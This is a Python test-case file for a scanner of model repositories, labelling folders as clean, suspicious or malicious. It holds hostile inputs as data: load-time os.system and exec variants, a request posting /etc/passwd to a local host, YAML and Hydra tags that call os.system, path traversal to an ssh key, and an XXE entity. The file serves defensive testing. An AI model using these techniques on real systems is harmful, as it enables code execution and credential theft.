"""Repositories whose small files make a loader run code, or reach out of the folder."""

from __future__ import annotations

import json

from tests.cases.safety import Case, Files
from tests.cases.safety.archives import _ZEROS, EVIL, _tensor, _tensors, torch_zip

WEIGHTS = _tensors({"model.embed_tokens.weight": _tensor(0, 16, [4])}, _ZEROS)
LLAMA = {"model_type": "llama", "architectures": ["LlamaForCausalLM"]}

HONEST = b'''"""A model of our own."""

import math
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

logger = logging.get_logger(__name__)
_CONFIG = {"hidden": 64, "pattern": r"model\\.layers\\.(\\d+)"}


def gelu(x):
    return 0.5 * x * (1 + torch.erf(x / math.sqrt(2)))


@torch.jit.script
def rotate(x):
    return x


class Net(PreTrainedModel):
    supports_gradient_checkpointing = True

    def __init__(self, config, size: Optional[int] = None):
        super().__init__(config)
        self.layer = nn.Linear(4, 4)

    @torch.no_grad()
    def forward(self, x):
        return gelu(self.layer(x))

    @classmethod
    def from_file(cls, path):
        with open(path) as file:
            return file.read()


class Config:
    model_type = "net"


Net.register_for_auto_class("AutoModel")
'''

# What runs when the module is imported.
AT_IMPORT = """
os.system                | import os\\nos.system("true")
subprocess               | import subprocess\\nsubprocess.run(["true"])
from subprocess          | from subprocess import run as r\\nr(["true"])
import inside            | __import__("os").system("true")
importlib                | import importlib\\nimportlib.import_module("o" + "s").system("true")
exec of base64           | import base64\\nexec(base64.b64decode("cGFzcw=="))
eval                     | eval("1+1" + input())
compile and exec         | exec(compile("pass", "x", "exec"))
socket                   | import socket\\ns = socket.create_connection(("127.0.0.1", 9))
urllib                   | from urllib.request import urlopen\\nurlopen("http://127.0.0.1/x").read()
requests                 | import requests\\nrequests.post("http://127.0.0.1/x", data=open("/etc/passwd").read())
in a class body          | import os\\nclass Net:\\n    x = os.popen("true")
in a decorator           | import os\\n@os.system\\ndef f():\\n    pass
in a default argument    | import os\\ndef f(x=os.system("true")):\\n    pass
in a comprehension       | import os\\n[os.system(c) for c in ["true"]]
in a try                 | try:\\n    import os\\n    os.system("true")\\nexcept Exception:\\n    pass
in a with                | import subprocess\\nwith subprocess.Popen(["true"]) as p:\\n    pass
in a function it calls   | import os\\ndef setup():\\n    os.system("true")\\nsetup()
in a method it calls     | import os\\nclass A:\\n    def go(self):\\n        os.system("true")\\nA().go()
by getattr               | import os\\ngetattr(os, "sys" + "tem")("true")
by builtins              | import builtins\\ngetattr(builtins, "ex" + "ec")("pass")
by globals               | globals()["__builtins__"]["eval"]("1")
by an alias              | import os as o\\nf = o.system\\nf("true")
by sys.modules           | import sys\\nsys.modules["os"].system("true")
lambda called            | import os\\n(lambda: os.system("true"))()
pickle.loads             | import pickle\\npickle.loads(b"N.")
marshal                  | import marshal\\nexec(marshal.loads(b"N"))
ctypes                   | import ctypes\\nctypes.CDLL(None).system(b"true")
writes a file            | open("/tmp/x", "w").write("x")
writes by pathlib        | from pathlib import Path\\nPath.home().joinpath(".bashrc").write_text("x")
shutil                   | import shutil\\nshutil.copy("/etc/passwd", "/tmp/x")
pip                      | import pip\\npip.main(["install", "x"])
thread                   | import threading, os\\nthreading.Thread(target=os.system, args=("true",)).start()
atexit                   | import atexit, os\\natexit.register(os.system, "true")
import of everything     | from os import *\\nsystem("true")
metaclass                | import os\\nclass M(type):\\n    def __new__(c, *a):\\n        os.system("true")\\n        return type.__new__(c, *a)\\nclass Z(metaclass=M):\\n    pass
torch.hub                | import torch\\ntorch.hub.load("a/b", "c")
decoded name             | import base64\\ngetattr(__builtins__, base64.b64decode("ZXhlYw==").decode())("pass")
init_subclass            | import os\\nclass A:\\n    def __init_subclass__(cls):\\n        os.system("true")\\nclass B(A):\\n    pass
"""


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _repo(config: object = LLAMA, **files: bytes) -> Files:
    """A folder with a configuration and weights; `__` in a name stands for `/`."""
    named = {path.replace("__", "/").replace("_DOT_", "."): data for path, data in files.items()}
    return {"config.json": _json(config), "model.safetensors": WEIGHTS, **named}


def _case(title: str, verdict: str, files: Files) -> Case:
    return Case(f"folder {title}", verdict, lambda: files)


def _mapped(code: bytes, key: str = "AutoModelForCausalLM") -> Files:
    return _repo({**LLAMA, "auto_map": {key: "modeling_net.Net"}}, modeling_net_DOT_py=code)


def _code_cases() -> tuple[Case, ...]:
    rows = [line.split("|", 1) for line in AT_IMPORT.strip().splitlines()]
    return tuple(
        _case(
            f"auto_map: {title.strip()}",
            "malicious",
            _mapped(HONEST + text.strip().replace("\\n", "\n").encode() + b"\n"),
        )
        for title, text in rows
    )


def _index(path: str) -> Files:
    return {
        "config.json": _json(LLAMA),
        "model.safetensors": WEIGHTS,
        "model.safetensors.index.json": _json({"weight_map": {"model.embed_tokens.weight": path}}),
    }


_EVIL_CODE = b"import os\nos.system('true')\n"
_DIFFUSERS = {
    "_class_name": "StableDiffusionPipeline",
    "_diffusers_version": "0.30.0",
    "unet": ["diffusers", "UNet2DConditionModel"],
    "scheduler": ["diffusers", "PNDMScheduler"],
    "safety_checker": [None, None],
    "text_encoder": ["transformers", "CLIPTextModel"],
    "requires_safety_checker": False,
}
_ST = [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"},
]
CASES = (
    *_code_cases(),
    _case("honest", "clean", _repo()),
    _case("honest code of its own", "clean", _mapped(HONEST)),
    _case("dangerous words inside functions", "clean|suspicious", _mapped(HONEST + b"def export(path):\n    import subprocess\n    subprocess.run(['true'])\n")),
    _case("auto_map to another repository", "suspicious|malicious", _repo({**LLAMA, "auto_map": {"AutoModel": "someone/else--modeling.Net"}})),
    _case("auto_map of a tokenizer", "malicious", _repo(tokenizer_config_DOT_json=_json({"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["tok.T", None]}}), tok_DOT_py=_EVIL_CODE)),
    _case("auto_map of a processor", "malicious", _repo(preprocessor_config_DOT_json=_json({"auto_map": {"AutoProcessor": "proc.P"}}), proc_DOT_py=_EVIL_CODE)),
    _case("auto_map through a second module", "malicious", _repo({**LLAMA, "auto_map": {"AutoModel": "modeling.Net"}}, modeling_DOT_py=b"from .hidden import x\n", hidden_DOT_py=_EVIL_CODE)),
    _case("auto_map to a module that is not there", "suspicious|broken|malicious", _repo({**LLAMA, "auto_map": {"AutoModel": "modeling.Net"}})),
    _case("auto_map deep in the config", "suspicious|malicious", _repo({**LLAMA, "text_config": {"auto_map": {"AutoModel": "someone/else--modeling.Net"}}})),
    _case("trust_remote_code", "suspicious|malicious", _repo({**LLAMA, "trust_remote_code": True})),
    _case("trust_remote_code deep", "suspicious|malicious", _repo({**LLAMA, "keypoint_detector_config": {"trust_remote_code": True}})),
    _case("attention of a hub's repository", "malicious|suspicious", _repo({**LLAMA, "_attn_implementation_internal": "someone/kernels"})),
    _case("attention of a repository by its usual key", "malicious|suspicious", _repo({**LLAMA, "attn_implementation": "someone/kernels:flash"})),
    _case("attention deep", "malicious|suspicious", _repo({**LLAMA, "text_config": {"_attn_implementation": "someone/kernels@main"}})),
    _case("attention of an ordinary kind", "clean", _repo({**LLAMA, "_attn_implementation": "flash_attention_2", "_attn_implementation_internal": "sdpa"})),
    _case("auto_mapping of an adapter", "suspicious|malicious", {"adapter_config.json": _json({"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "evil_module"}}), "adapter_model.safetensors": WEIGHTS, "evil_module.py": _EVIL_CODE}),
    _case("adapter", "clean", {"adapter_config.json": _json({"peft_type": "LORA", "base_model_name_or_path": "org/base", "auto_mapping": None, "target_modules": ["q_proj"]}), "adapter_model.safetensors": WEIGHTS}),
    _case("modules.json with a module of its own", "malicious|suspicious", _repo(modules_DOT_json=_json([*_ST, {"idx": 3, "name": "3", "path": "3", "type": "custom_pool.Pool"}]), custom_pool_DOT_py=_EVIL_CODE)),
    _case("modules.json of another repository", "malicious|suspicious", _repo(modules_DOT_json=_json([{"idx": 0, "name": "0", "path": "", "type": "someone/else--pool.Pool"}]))),
    _case("modules.json that calls os", "malicious|suspicious", _repo(modules_DOT_json=_json([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]))),
    _case("modules.json path leaves", "malicious|suspicious|broken", _repo(modules_DOT_json=_json([{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}]))),
    _case("sentence transformers", "clean", _repo(modules_DOT_json=_json(_ST))),
    _case("model_index with a class of its own", "malicious|suspicious", {"model_index.json": _json({**_DIFFUSERS, "unet": ["my_unet", "Net"]}), "unet/my_unet.py": _EVIL_CODE, "unet/diffusion_pytorch_model.safetensors": WEIGHTS}),
    _case("model_index with a pipeline of its own", "malicious|suspicious", {"model_index.json": _json({**_DIFFUSERS, "_class_name": ["pipeline", "MyPipeline"]}), "pipeline.py": _EVIL_CODE, "unet/diffusion_pytorch_model.safetensors": WEIGHTS}),
    _case("diffusers", "clean", {"model_index.json": _json(_DIFFUSERS), "unet/config.json": _json({"_class_name": "UNet2DConditionModel"}), "unet/diffusion_pytorch_model.safetensors": WEIGHTS}),
    _case("custom_generate", "malicious", _repo(custom_generate__generate_DOT_py=_EVIL_CODE)),
    _case("custom_generate honest", "clean|suspicious", _repo(custom_generate__generate_DOT_py=b"def generate(model, **kwargs):\n    return model\n")),
    _case("handler.py", "malicious", _repo(handler_DOT_py=_EVIL_CODE + b"class EndpointHandler:\n    pass\n")),
    _case("setup.py", "malicious|suspicious", _repo(setup_DOT_py=_EVIL_CODE)),
    _case("a script beside it", "clean|suspicious", _repo(train_DOT_py=b"import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])\n")),
    _case("index leaves the folder", "malicious|broken|suspicious", _index("../../../etc/passwd")),
    _case("index of an absolute path", "malicious|broken|suspicious", _index("/etc/passwd")),
    _case("index of a drive", "malicious|broken|suspicious", _index("C:\\x\\model.safetensors")),
    _case("index honest", "clean", _index("model.safetensors")),
    _case("index of a missing shard", "broken", _index("model-00002-of-00002.safetensors")),
    _case("Modelfile", "clean", {"Modelfile": b"FROM ./model.gguf\nPARAMETER temperature 0.7\nSYSTEM \"\"\"You are kind.\"\"\"\nTEMPLATE \"{{ .Prompt }}\"\n"}),
    _case("Modelfile of a name", "clean", {"Modelfile": b"FROM llama3.2:1b\nPARAMETER num_ctx 4096\n"}),
    _case("Modelfile leaves the folder", "malicious|suspicious", {"Modelfile": b"FROM ../../../../home/user/.ollama/id_ed25519\n"}),
    _case("Modelfile of an absolute path", "malicious|suspicious", {"Modelfile": b"FROM llama3\nADAPTER /etc/passwd\n"}),
    _case("Modelfile of an address", "malicious|suspicious", {"Modelfile": b"FROM http://127.0.0.1/model.gguf\n"}),
    _case("yaml that calls", "malicious", {"config.yaml": b"model:\n  init: !!python/object/apply:os.system ['true']\n"}),
    _case("yaml that makes an object", "malicious|suspicious", {"hparams.yaml": b"config: !!python/object/new:subprocess.Popen\n  args: [['true']]\n"}),
    _case("yaml with a tag written out", "malicious", {"config.yml": b"%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['true']\n"}),
    _case("yaml with a whole tag", "malicious", {"config.yml": b"x: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n"}),
    _case("yaml of a tuple", "clean|suspicious", {"hparams.yaml": b"betas: !!python/tuple\n- 0.9\n- 0.999\n"}),
    _case("yaml plain", "clean", {"config.yaml": b"# !!python/object/apply is not used\nmodel:\n  hidden: 64\n  note: \"!!python/object/apply:os.system\"\n"}),
    _case("hydra target", "malicious", {"config.yaml": b"model:\n  _target_: os.system\n  command: 'true'\n"}),
    _case("hydra target builtins", "malicious", {"model_config.yaml": b"model:\n  _target_: builtins.exec\n"}),
    _case("hydra target honest", "clean", {"model_config.yaml": b"optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"}),
    _case("mlflow", "clean", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.0\n"}),
    _case("mlflow with a loader of its own", "malicious|suspicious", {"MLmodel": b"flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n", "code/evil_loader.py": _EVIL_CODE}),
    _case("pickle beside safetensors", "malicious", _repo(pytorch_model_DOT_bin=torch_zip(EVIL))),
    _case("honest pickle beside safetensors", "clean", _repo(pytorch_model_DOT_bin=torch_zip())),
    _case("pickle called optimizer.pt", "malicious", _repo(optimizer_DOT_pt=EVIL)),
    _case("requirements of an address", "suspicious|malicious", _repo(requirements_DOT_txt=b"torch\ngit+https://example.com/x.git\n--find-links http://127.0.0.1/\n")),
    _case("requirements honest", "clean", _repo(requirements_DOT_txt=b"torch>=2.0\ntransformers==4.40\n# https://example.com\n")),
    _case("pmml with an entity", "malicious|suspicious", {"model.pmml": b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header copyright="&x;"/></PMML>'}),
    _case("pmml that swells", "malicious|suspicious", {"model.pmml": b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><PMML version="4.4">&b;</PMML>'}),
    _case("pmml plain", "clean", {"model.pmml": b'<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/></PMML>'}),
)  # fmt: skip
